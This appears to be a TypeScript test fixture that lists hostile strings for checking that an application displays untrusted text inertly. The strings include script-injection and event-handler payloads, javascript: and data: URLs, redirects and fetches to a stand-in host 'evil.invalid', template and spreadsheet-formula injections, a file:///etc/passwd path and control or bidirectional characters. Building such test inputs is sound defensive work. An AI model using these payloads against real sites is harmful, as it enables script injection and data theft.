/** Texts that try to run, navigate, fetch, style, hide or break out. Each carries a marker of plain letters. */

/** What a payload that ran would have set, and where one that fetched would have asked. */
export const RAN = '__ran';
export const EVIL = 'evil.invalid';

const RUN = `globalThis.${RAN}=1`;
const URL = `https://${EVIL}/x`;

const RAW: readonly string[] = [
  // Markup that runs.
  `<script>${RUN}</script>`,
  `<ScRiPt src="${URL}.js"></sCrIpT>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${URL}.png">`,
  `"><svg/onload=${RUN}>`,
  `'><img src=x onerror='${RUN}'>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RAN}=1</script>"></iframe>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video src="${URL}.mp4" autoplay onerror="${RUN}"></video>`,
  `<object data="${URL}"></object><embed src="${URL}">`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror="${RUN}"></style>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<body onload="${RUN}" onpageshow="${RUN}">`,
  // Markup that leads away, fetches or changes the page.
  `<meta http-equiv="refresh" content="0;url=${URL}">`,
  `<base href="https://${EVIL}/">`,
  `<a href="javascript:${RUN}" autofocus>click</a>`,
  `<form action="${URL}"><button autofocus>send</button></form>`,
  `<link rel=stylesheet href="${URL}.css"><link rel=prefetch href="${URL}">`,
  `<style>@import "${URL}.css"; body{display:none}</style>`,
  `<div style="background:url(${URL}.png);position:fixed;inset:0">x</div>`,
  `</textarea></title></style></script><script>${RUN}</script>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  // Addresses.
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:msgbox(1)`,
  `//${EVIL}/x.png`,
  URL,
  `file:///etc/passwd`,
  `[link](${URL}) ![image](${URL}.png) <${URL}>`,
  `url(${URL}.png)`,
  // Templates, formulas, code.
  '{{constructor.constructor("globalThis.__ran=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself
  '${globalThis.__ran=1}<%= globalThis.__ran=1 %>#{globalThis.__ran=1}',
  `=HYPERLINK("${URL}";"open")`,
  `"+(${RUN})+"`,
  `');${RUN};//`,
  // Names and characters.
  '__proto__',
  'constructor',
  'toString',
  '\u202E\u2066reversed\u2069\u202C \u200B\u200D\uFEFF\u00AD',
  '\u0000\u0007\u001B[31m\u001F\u001E\u2028\u2029\u0085',
  'lone \uD83D and \uDC00 \uFFFD',
  `${'\u0301'.repeat(300)} zalgo`,
  'x'.repeat(5_000),
  `%00%3Cscript%3E${RUN}%3C/script%3E &lt;img src=x onerror=${RUN}&gt; &#x3C;script&#x3E;`,
];

export interface Payload {
  /** Plain letters that stand in the text: it was shown where they are read. */
  readonly mark: string;
  readonly text: string;
}

export const PAYLOADS: readonly Payload[] = RAW.map((text, at) => {
  const mark = `mark${String.fromCharCode(97 + Math.floor(at / 26), 97 + (at % 26))}`;
  // A name that an object already has is only a danger as it stands.
  return Object.hasOwn(Object.prototype, text) ? { mark: text, text } : { mark, text: placed(text, mark) };
});

/** Behind it, where a scheme or a tag must stay the first thing read. */
function placed(text: string, mark: string): string {
  if (/^([a-z]+:|\/\/|=)/.test(text)) return `${text}//${mark}`;
  return text.startsWith('<') ? text + mark : mark + text;
}

/** As the name of a file: no separator of paths, no zero, short enough for a disk. */
export function fileNameOf({ text }: Payload, nth: number): string {
  const flat = text.replaceAll('/', '\u2215').replace(/[\u0000\p{Surrogate}]/gu, '');
  let name = '';
  for (const character of flat) {
    if (Buffer.byteLength(name + character) > 180) break;
    name += character;
  }
  return `${name}-n${nth}n.json`;
}
